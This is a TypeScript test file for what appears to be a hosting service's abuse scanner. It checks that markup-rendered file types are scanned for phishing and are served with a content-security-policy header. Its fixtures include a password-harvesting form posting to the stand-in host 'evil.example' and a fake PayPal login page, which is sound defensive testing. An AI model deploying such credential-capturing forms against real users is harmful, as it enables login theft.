/** PIPELINE 3: what a browser may show as a page is scanned as one, whatever its type. Every type has the
 *  quarantine's header. */
import { expect, test } from "bun:test";
import { isMarkup, mediaType, MEDIA_TYPES } from "../../src/base/media-types.ts";
import { judge } from "../kit/abuse-site.ts";
import { sharedServer } from "../kit/shared.ts";

const server = await sharedServer();

/** Types that browsers show as HTML or XML. */
const SHOWN =
  "html htm shtml xhtml xht xml xsd rng xsl xslt rss atom mathml mml smil smi mpd osdx xspf ttml dfxp rdf owl gpx kml svg dae";
const shown = new Set(SHOWN.split(" "));
const extensions = Object.values(MEDIA_TYPES).flatMap((names) => names.split(" "));
const PHISHING = `<html xmlns="http://www.w3.org/1999/xhtml"><body><form action="//evil.example"><input type="password"/></form></body></html>`;

test("the types that are markup", () => {
  const type = (extension: string): string => mediaType(`a.${extension}`, new TextEncoder().encode(PHISHING));
  expect(extensions.filter((extension) => isMarkup(type(extension)))).toEqual(
    extensions.filter((extension) => shown.has(extension)),
  );
  expect(extensions.filter((extension) => shown.has(extension)).toSorted()).toEqual([...shown].toSorted());
});

test("the scan refuses phishing in each of them, and in no other", () => {
  const refused = extensions.filter((extension) => judge({ [`page.${extension}`]: PHISHING }) === "abuse_rejected");
  expect(refused).toEqual(extensions.filter((extension) => shown.has(extension)));
});

test("each type has the quarantine's header", async () => {
  const site = await server.deploy({
    "index.html": "<!doctype html><title>PayPal</title><form><input type=password></form>",
    ...Object.fromEntries(extensions.slice(0, 190).map((extension) => [`a.${extension}`, "x"])),
  });
  const asked = extensions.slice(0, 190);
  const held = await Promise.all(
    asked.map(async (extension) => {
      const response = await server.site(site.slug, `/a.${extension}`);
      await response.body?.cancel();
      return response.headers.has("content-security-policy");
    }),
  );
  expect(asked.filter((_, i) => !held[i])).toEqual([]);
});
